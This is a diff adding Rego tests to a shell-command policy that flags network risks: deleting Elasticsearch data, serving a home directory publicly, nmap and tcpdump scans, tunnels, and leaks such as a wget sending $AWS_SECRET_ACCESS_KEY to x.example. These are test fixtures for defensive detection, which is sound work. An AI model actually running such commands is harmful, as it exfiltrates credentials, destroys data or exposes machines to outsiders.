@@ -48,3 +48,43 @@ test_search if {
 	not "net.delete_data" in fixture.ids(fixture.args("curl", ["localhost:9200/users"]))
 	not "net.delete_data" in fixture.ids([{"name": "curl", "operands": ["localhost:9200/users/_doc/1"], "options": [{"name": "X", "value": "DELETE"}]}])
 }
+
+_server(words) := [{"name": "python3", "args": array.concat(["-m", "http.server"], words)}]
+
+test_serving if {
+	"net.serve" in fixture.ids(_server(["8000", "--bind", "0.0.0.0"]))
+	"net.serve" in fixture.ids(_server(["--directory", "/home/dev"]))
+	"net.serve" in fixture.ids([{"name": "php", "args": ["-S", "0.0.0.0:8000"]}])
+	"net.serve" in fixture.ids([{"name": "python3", "args": ["-m", "http.server"], "cwd": "/home/dev"}])
+}
+
+test_serving_here if {
+	not "net.serve" in fixture.ids(_server(["8000", "--bind", "127.0.0.1"]))
+	not "net.serve" in fixture.ids(_server(["8000", "--directory", "dist"]))
+}
+
+test_probe if {
+	"net.probe" in fixture.ids(fixture.args("nmap", ["-sS", "10.0.0.0/24"]))
+	"net.probe" in fixture.ids(fixture.args("tcpdump", ["-i", "any"]))
+}
+
+test_probe_of_this_machine if not "net.probe" in fixture.ids(fixture.args("nmap", ["-p", "8080", "localhost"]))
+
+_asks(name, from, host) := [{"name": from}, {"name": name, "takes": [0], "hosts": [host]}]
+
+test_leak if {
+	"net.leak" in fixture.ids(_asks("dig", "cat", fixture.host("", false)))
+	"net.leak" in fixture.ids(_asks("curl", "whoami", fixture.host("x.example", false)))
+	"net.leak" in fixture.ids([{"name": "wget", "operands": ["https://x.example/?k=$AWS_SECRET_ACCESS_KEY"], "hosts": [fixture.host("x.example", false)]}])
+}
+
+test_no_leak if {
+	not "net.leak" in fixture.ids(_asks("curl", "cat", fixture.host("x.example", false)))
+	not "net.leak" in fixture.ids(_asks("curl", "whoami", {"name": "localhost", "url": "", "scheme": "http", "loopback": true, "push": false}))
+	not "net.leak" in fixture.ids([{"name": "wget", "operands": ["https://x.example/$VERSION"], "hosts": [fixture.host("x.example", false)]}])
+}
+
+test_tunnel_verbs if {
+	"net.tunnel" in fixture.ids(fixture.args("tailscale", ["funnel", "3000"]))
+	not "net.tunnel" in fixture.ids(fixture.args("tailscale", ["status"]))
+}
